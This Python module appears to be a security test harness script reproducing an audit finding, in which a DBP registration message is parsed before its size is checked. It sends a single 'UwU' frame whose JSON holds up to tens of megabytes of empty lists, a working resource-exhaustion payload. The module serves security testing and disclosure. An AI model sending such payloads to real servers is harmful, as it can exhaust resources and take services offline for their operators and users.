"""Finding 2, a DBP registration parsed before its size check: one ``UwU`` whose JSON is
megabytes of empty lists."""

from __future__ import annotations

from .frames import dbp
from .harness import MB, Attacker

__all__ = ["run"]


def run(a: Attacker) -> None:
    size = a.size(50 * MB, 5 * MB)
    lists = size // 3
    doc = b'{"name": "big", "info": [' + b"[]," * lists + b"[]]}"
    sock = a.socket()
    a.send(sock, dbp(b"UwU", doc))
    answer = a.recv(sock, max(0.0, a.settings.duration - 1))
    a.notes["answer"] = repr(answer[1]) if answer else None
